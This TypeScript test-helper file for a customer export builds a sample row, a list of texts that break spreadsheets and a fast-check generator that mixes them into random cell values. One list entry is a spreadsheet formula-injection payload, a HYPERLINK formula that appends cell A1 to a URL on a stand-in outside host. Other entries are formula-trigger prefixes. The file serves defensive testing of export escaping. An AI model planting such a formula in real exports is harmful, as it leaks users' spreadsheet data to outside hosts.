import fc from 'fast-check'
import type { ExportRow } from '@/lib/customers/export/columns'

/** A row of an export with everything that may be missing left out. */
export function exportRow(change: Partial<ExportRow> = {}): ExportRow {
  return {
    sageCustomerNumber: '000412',
    debtorNumber: null,
    name: 'Krüger Logistik GmbH & Co. KG',
    matchCode: null,
    postalCode: null,
    town: null,
    contactName: null,
    contactPosition: null,
    contactPhone: null,
    mainContactEmail: null,
    mainContactObservedOn: null,
    sageIdEmail: null,
    sageIdObservedOn: null,
    entitlementEmail: null,
    entitlementObservedOn: null,
    stage: 'contact-missing',
    stageSince: '2026-11-02',
    stale: false,
    gatewayAnswer: 'unknown',
    gatewayOrderedOn: null,
    gatewayOrderNumber: null,
    waitingOn: null,
    nextAction: null,
    owner: null,
    secondFactorHolder: null,
    notes: null,
    archivedOn: null,
    ...change,
  }
}

/** What tables get wrong: leading zeros, formulas, separators, quotes, line breaks, umlauts, emoji, other scripts. */
export const HOSTILE_TEXTS = [
  '000412',
  '00449-0001',
  '+49 431 5550-10',
  '-1',
  '@home',
  '=HYPERLINK("http://fremd.example/?"&A1;"klick")',
  "'=1+1",
  "''apostroph",
  '1E5',
  '1.2.2026',
  'a;b,c\td',
  '"zitiert"',
  'Zeile 1\nZeile 2\n\nZeile 4',
  'Größe „ä“ ß – …',
  'A\u0308 zerlegt',
  '😀👩‍👩‍👧 🇩🇪',
  'Ωμέγα Ёлка 株式会社',
  '<b>&amp;</b> ]]>',
  '_x0041_ _x000D_',
  '  zwei  Leerzeichen ',
  'TRUE',
  '#NV',
] as const

/** Texts as a form takes them, with what matters to tables far more often than chance would have it. */
export const anyCellText = fc
  .array(
    fc.oneof(fc.constantFrom(...HOSTILE_TEXTS, ...'=+-@;"\'0\n ,\t'), fc.string({ unit: 'grapheme', maxLength: 8 })),
    {
      maxLength: 4,
    },
  )
  .map((parts) => parts.join('').replace(/(?![\n\t])[\p{Cc}\p{Cs}\ufffe\uffff]/gu, ''))

export async function* inPages(pages: ExportRow[][]): AsyncGenerator<ExportRow[]> {
  yield* pages
}

export async function readWhole(pieces: AsyncIterable<Uint8Array>): Promise<Buffer> {
  return Buffer.concat(await everythingOf(pieces))
}

export async function everythingOf<T>(pieces: AsyncIterable<T>): Promise<T[]> {
  const all: T[] = []
  for await (const piece of pieces) all.push(piece)
  return all
}
